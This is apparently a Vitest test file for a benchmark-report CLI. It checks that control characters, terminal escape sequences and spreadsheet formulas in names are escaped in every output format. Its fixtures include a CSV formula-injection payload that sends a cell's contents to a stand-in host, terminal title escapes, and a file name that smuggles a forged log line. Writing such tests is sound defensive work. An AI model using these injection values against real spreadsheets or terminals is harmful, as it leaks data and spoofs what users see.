/**
 * Issue 11 (item 8): a control character in a level name reaches no output raw (SVG stays valid XML, PNG renders),
 * spreadsheet formulas in CSV text cells are inert by default, and the terminal shows escape sequences, not obeys them.
 */
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { buildReport } from '../../src/report/build.js';
import { main } from '../../src/cli/main.js';
import { memoryIO } from '../../src/cli/io.js';
import { csvSafeText, oneLine, terminalText, visibleControls } from '../../src/model/index.js';
import { escapeCsv, escapeHtml, escapeLatex, escapeMarkdown } from '../../src/tables/escape.js';
import { csvTable } from '../../src/tables/to-csv.js';
import { writeExampleCampaign } from '../../src/synth/example.js';

const scratch = mkdtempSync(join(tmpdir(), 'cnibench-control-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f]/;
const EVIL_TESTBED = 'AT\x1b[31mH\x01';
const FORMULA_TESTBED = '=HYPERLINK("evil.invalid"&A1,"ok")';

function walk(dir: string, root = dir): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
    e.isDirectory() ? walk(join(dir, e.name), root) : [join(dir, e.name).slice(root.length + 1)],
  );
}

/** The cells of a CSV line (RFC 4180, as cnibench writes it), good enough for these lines. */
function csvCells(line: string): string[] {
  const cells: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/g;
  for (let m = re.exec(line); m !== null && m[0] !== ''; m = re.exec(line)) {
    cells.push(m[1]!.startsWith('"') ? m[1]!.slice(1, -1).replace(/""/g, '"') : m[1]!);
    if (m[2] === '') break;
  }
  return cells;
}

describe('control characters and formulas from level names', () => {
  const campaign = join(scratch, 'campaign');
  writeExampleCampaign(campaign, { iterations: 2 });
  rmSync(join(campaign, 'campaign.yaml'));
  renameSync(join(campaign, 'ATH'), join(campaign, EVIL_TESTBED));
  renameSync(join(campaign, 'UOM'), join(campaign, FORMULA_TESTBED));

  it('no output file holds a raw control character; SVG and PNG render; CSV formulas are inert', async () => {
    const out = join(scratch, 'report');
    const result = await buildReport(campaign, { out, formats: ['svg', 'png'], renderThreads: 1 });
    expect(result.summary.renderErrors).toEqual([]);
    const files = walk(out);
    expect(files.some((f) => f.endsWith('.png'))).toBe(true);
    for (const file of files.filter((f) => /\.(svg|md|tex|csv|html)$/.test(f))) {
      const text = readFileSync(join(out, file), 'utf8');
      expect(RAW_CONTROL.test(text), file).toBe(false);
    }
    // the name is shown with visible escapes, escaped again by each writer
    expect(readFileSync(join(out, 'tables', 'cells.md'), 'utf8')).toContain('AT\\\\x1b\\[31mH\\\\x01');
    const tex = files.filter((f) => f.startsWith('tables/latex/cells-'));
    expect(tex.map((f) => readFileSync(join(out, f), 'utf8')).join('\n')).toContain(
      'AT\\textbackslash{}x1b[31mH\\textbackslash{}x01',
    );
    const svgs = files.filter((f) => f.endsWith('.svg'));
    expect(svgs.some((f) => readFileSync(join(out, f), 'utf8').includes('AT\\x1b[31mH\\x01'))).toBe(true);

    for (const file of ['data/tidy.csv', ...files.filter((f) => f.startsWith('tables/') && f.endsWith('.csv'))]) {
      const lines = readFileSync(join(out, file), 'utf8').trimEnd().split('\n');
      const cells = lines.flatMap(csvCells);
      expect(
        cells.filter((c) => /^[=+@\t\r]/.test(c) || (/^-/.test(c) && !/^-[\d.]+(e[+-]?\d+)?$/.test(c))),
        file,
      ).toEqual([]);
      if (file === 'data/tidy.csv' || file === 'tables/cells.csv') {
        expect(cells, file).toContain(`'${FORMULA_TESTBED}`);
      }
    }
    // negative numbers stay numbers
    const deltas = readFileSync(join(out, 'tables', 'deltas.csv'), 'utf8');
    expect(deltas).toMatch(/,-\d+(\.\d+)?(e-?\d+)?[,\n]/);
    expect(deltas).not.toMatch(/'-\d/);
  }, 120_000);

  it('keeps formulas raw with csvFormulas: raw (--csv-raw-formulas)', async () => {
    const out = join(scratch, 'raw');
    const io = memoryIO(scratch);
    const code = await main(
      ['report', 'build', campaign, '-o', out, '--formats', 'none', '--csv-raw-formulas', '-q'],
      io,
    );
    expect([0, 1]).toContain(code);
    const tidy = readFileSync(join(out, 'data', 'tidy.csv'), 'utf8');
    expect(tidy.split('\n').flatMap(csvCells)).toContain(FORMULA_TESTBED);
    expect(tidy).not.toContain(`'=HYPERLINK`);
    const help = memoryIO(scratch);
    await main(['report', 'build', '--help'], help);
    expect(help.out.join('')).toContain('--csv-raw-formulas');
  }, 120_000);
});

describe('text-safety rules', () => {
  it('makes control characters visible, keeping tab and line feed in free text', () => {
    expect(visibleControls('a\x1b[2Jb\tc\nd\x7f\x85\u202e')).toBe('a\\x1b[2Jb\tc\nd\\x7f\\x85\\u202e');
    expect(oneLine('a\nb\tc\rd')).toBe('a\\x0ab\\x09c\\x0dd');
    // two names differing in a control character stay two labels
    expect(visibleControls('a\x01')).not.toBe(visibleControls('a\x02'));
  });

  it('applies the OWASP rule to text cells only', () => {
    for (const cell of ['=1+1', '+cmd', '-2+3', '@SUM(A1)', '\tx', '\rx', '-', '- flannel']) {
      expect(csvSafeText(cell)).toBe(`'${cell}`);
      expect(csvSafeText(cell, 'raw')).toBe(cell);
    }
    for (const cell of ['-3.2', '+5', '-1e-7', '.5', 'flannel', '', 'a=b']) expect(csvSafeText(cell)).toBe(cell);
    expect(escapeCsv('=A1,B1')).toBe(`"'=A1,B1"`);
    const csv = csvTable({ id: 't', columns: ['level', 'delta'], rows: [['=cmd()', -3.2]] });
    expect(csv).toBe("level,delta\n'=cmd(),-3.2\n");
  });

  it('every writer escapes control characters', () => {
    for (const escaped of [escapeHtml, escapeMarkdown, escapeLatex, escapeCsv].map((f) => f('x\x1by\x00'))) {
      expect(RAW_CONTROL.test(escaped)).toBe(false);
    }
  });

  it('keeps the redraw prefix of progress lines on a terminal and escapes the rest', () => {
    expect(terminalText('\r\x1b[Kdone AT\x1b]0;pwned\x07H\n')).toBe('\r\x1b[Kdone AT\\x1b]0;pwned\\x07H\n');
    expect(terminalText('\r[2/7] x')).toBe('\r[2/7] x');
  });

  it('the terminal gets escape sequences from paths printed, not obeyed', async () => {
    const io = memoryIO(scratch);
    const code = await main(['report', 'build', 'no-such\x1b]0;pwned\x07dir'], io);
    expect(code).toBe(2);
    const err = io.err.join('');
    expect(err).toContain('no-such\\x1b]0;pwned\\x07dir');
    expect(RAW_CONTROL.test(err)).toBe(false);
  });

  it('`cnibench ingest` prints a rejected file name with an escape sequence or newline as one inert line', async () => {
    const campaign = join(scratch, 'ingest-names');
    mkdirSync(join(campaign, 'ATH', 'k8s', 'flannel'), { recursive: true });
    const name = '01\x1b]0;pwned\x07\nrejected: forged.json';
    writeFileSync(join(campaign, 'ATH', 'k8s', 'flannel', name), 'not a knb output\n');
    const io = memoryIO(scratch);
    expect(await main(['ingest', campaign, '-q'], io)).toBe(1);
    const err = io.err.join('');
    expect(RAW_CONTROL.test(err)).toBe(false);
    const lines = err.split('\n').filter((l) => l.startsWith('rejected:'));
    expect(lines).toHaveLength(1);
    expect(lines[0]).toContain('01\\x1b]0;pwned\\x07\\x0arejected: forged.json');
  });

  it('the build summary on stdout escapes the campaign name', async () => {
    const campaign = join(scratch, 'named');
    writeExampleCampaign(campaign, { iterations: 2 });
    const yaml = readFileSync(join(campaign, 'campaign.yaml'), 'utf8').replace(
      /^name: .*$/m,
      'name: "evil\\e]0;pwned\\a name"',
    );
    writeFileSync(join(campaign, 'campaign.yaml'), yaml);
    const io = memoryIO(scratch);
    await main(['report', 'build', campaign, '-o', join(scratch, 'named-out'), '--formats', 'none', '-q'], io);
    const out = io.out.join('');
    expect(out).toContain('report of evil\\x1b]0;pwned\\x07 name');
    expect(RAW_CONTROL.test(out)).toBe(false);
  }, 120_000);
});
